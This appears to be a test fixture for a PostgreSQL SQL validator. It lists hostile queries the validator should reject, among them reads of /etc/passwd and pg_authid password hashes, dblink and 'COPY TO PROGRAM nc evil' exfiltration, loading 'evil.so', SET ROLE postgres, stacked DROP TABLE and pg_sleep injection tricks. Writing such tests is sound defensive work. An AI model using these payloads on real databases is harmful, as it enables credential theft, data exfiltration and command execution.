--! nothing that changes data
WITH gone AS (DELETE FROM flights RETURNING *) SELECT * FROM gone
--! nothing that changes data
WITH changed AS (UPDATE flights SET origin = 'x' RETURNING *) SELECT * FROM changed
--! nothing that changes data
WITH made AS (INSERT INTO flights (id) VALUES (1) RETURNING *) SELECT * FROM made
--! nothing that changes data
SELECT * FROM (WITH gone AS (DELETE FROM flights RETURNING *) SELECT * FROM gone) AS x
--! function
SELECT pg_read_file('/etc/passwd')
--! function
SELECT pg_read_binary_file('/etc/passwd')
--! function
SELECT * FROM pg_ls_dir('/')
--! function
SELECT pg_stat_file('/etc/passwd')
--! function
SELECT lo_import('/etc/passwd')
--! function
SELECT lo_export(1, '/tmp/x')
--! function
SELECT lo_get(1)
--! function
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)
--! function
SELECT dblink_connect('host=evil')
--! function
SELECT query_to_xml('SELECT * FROM flights', true, true, '')
--! function
SELECT table_to_xml('flights', true, true, '')
--! function
SELECT database_to_xml(true, true, '')
--! function
SELECT cursor_to_xml('c', 1, true, true, '')
--! function
SELECT pg_terminate_backend(1)
--! function
SELECT pg_cancel_backend(1)
--! function
SELECT pg_reload_conf()
--! function
SELECT pg_advisory_lock(1)
--! function
SELECT pg_notify('a', 'b')
--! function
SELECT pg_switch_wal()
--! function
SELECT pg_get_viewdef('x')
--! function
SELECT nextval('seq')
--! function
SELECT setval('seq', 1)
--! function
SELECT has_table_privilege('flights', 'select')
--! function
SELECT inet_server_addr()
--! function
SELECT pg_catalog.pg_sleep(1)
--! function
SELECT PG_CATALOG.Pg_Read_File('/etc/passwd')
--! function
SELECT pg_catalog.set_config('x', 'y', true)
--! function
SELECT ts_stat('SELECT 1')
--! function
SELECT * FROM ts_stat('SELECT * FROM pg_shadow')
--! function
SELECT xpath('/a', '<a/>')
--! function
SELECT to_regclass('x')
--! function
SELECT txid_current()
--! function
SELECT current_role()
--! function
SELECT current_catalog
--! function
SELECT user
--! function
SELECT pg_sleep_for('5 minutes')
--! function
SELECT array(SELECT pg_sleep(1))
--! function
SELECT pg_sleep(1)::text::int
--! function
SELECT * FROM ROWS FROM (pg_sleep(1)) AS x
--! function
SELECT * FROM flights, LATERAL pg_sleep(1)
--! function
SELECT DISTINCT ON (pg_sleep(1)) id FROM flights
--! function
SELECT EXTRACT(YEAR FROM pg_sleep(1))
--! function
SELECT ARRAY[pg_sleep(1)]
--! function
SELECT (ARRAY[1])[pg_sleep(1)]
--! function
SELECT id FROM flights FETCH FIRST (length(pg_read_file('x'))) ROWS ONLY
--! function
SELECT string_agg(origin, ',' ORDER BY pg_sleep(1)) FROM flights
--! function
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)) FROM flights
--! function
SELECT sum(id) OVER (ROWS BETWEEN length(pg_sleep(1)) PRECEDING AND CURRENT ROW) FROM flights
--! function
SELECT make_interval(days => pg_sleep(1))
--! function
SELECT substring('a' FROM pg_sleep(1))
--! function
SELECT trim(BOTH pg_sleep(1) FROM 'a')
--! function
SELECT position(pg_sleep(1) IN 'a')
--! function
SELECT overlay('a' PLACING pg_sleep(1) FROM 1)
--! function
SELECT 1 BETWEEN pg_sleep(1) AND 2
--! function
SELECT 1 = ANY(ARRAY[pg_sleep(1)])
--! function
SELECT now() AT TIME ZONE pg_sleep(1)
--! function
SELECT id FROM flights GROUP BY ROLLUP (pg_sleep(1))
--! function
SELECT id FROM flights GROUP BY GROUPING SETS ((pg_sleep(1)))
--! function
SELECT U&'a' || pg_sleep(1)
--! function
SELECT E'\'' || pg_sleep(1) || '--'
--! function
SELECT $$'$$ || pg_sleep(1)
--! function
SELECT /* ' */ pg_sleep(1) /* ' */
--! function
SELECT /* /* nested */ ' */ pg_sleep(1)
--! function
SELECT 1 -- '
, pg_sleep(1)
--! function
SELECT E'\\' , pg_sleep(1), '
'
--! function
SELECT * FROM ONLY (pg_shadow)
--! belongs to the database
SELECT rolpassword FROM pg_authid
--! belongs to the database
SELECT * FROM pg_temp.x
--! belongs to the database
SELECT * FROM pg_toast.x
--! belongs to the database
SELECT * FROM flights NATURAL JOIN pg_stat_activity
--! belongs to the database
SELECT * FROM (flights CROSS JOIN pg_settings)
--! belongs to the database
WITH RECURSIVE pg_user AS (SELECT usename FROM pg_user UNION SELECT 'x') SELECT * FROM pg_user
--! may not be used
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x text)
--! may not be used
SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (x int PATH '$.x')) AS t
--! may not be used
SELECT 1 OPERATOR(pg_catalog.+) 2
--! may not be used
SELECT 1 OPERATOR(evil.@@@) 2
--! may not be used
SELECT 5 !
--! may not be used
SELECT @ -5
--! may not be used
SELECT |/ 25
--! may not be used
SELECT 'pg_class'::regclass::oid
--! may not be used
SELECT 'x'::pg_catalog.regclass
--! may not be used
SELECT 'x'::public.evil
--! may not be used
SELECT '<a/>'::xml
--! may not be used
SELECT B'101'
--! may not be used
SELECT N'x'
--! has more than 63 bytes
SELECT * FROM "secrets_secrets_secrets_secrets_secrets_secrets_secrets_secrets_secrets"
--! has more than 63 bytes
SELECT id AS a234567890123456789012345678901234567890123456789012345678901234 FROM flights
--! only a query
DO $$ BEGIN PERFORM pg_sleep(1); END $$
--! only a query
LISTEN x
--! only a query
NOTIFY x
--! only a query
VACUUM
--! only a query
LOCK TABLE flights
--! only a query
COPY flights FROM PROGRAM 'id'
--! only a query
COPY flights TO PROGRAM 'nc evil 1'
--! only a query
RESET ALL
--! only a query
DISCARD ALL
--! only a query
LOAD 'evil.so'
--! only a query
CREATE EXTENSION dblink
--! only a query
DECLARE c CURSOR FOR SELECT 1
--! only a query
FETCH ALL FROM c
--! only a query
SET ROLE postgres
--! only a query
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
--! the SQL does not parse
SELECT * FROM flights WHERE origin = 'x' \; DROP TABLE flights
--! the SQL does not parse
SELECT U&'\zzzz'
--! the SQL does not parse
\copy flights to '/tmp/x'
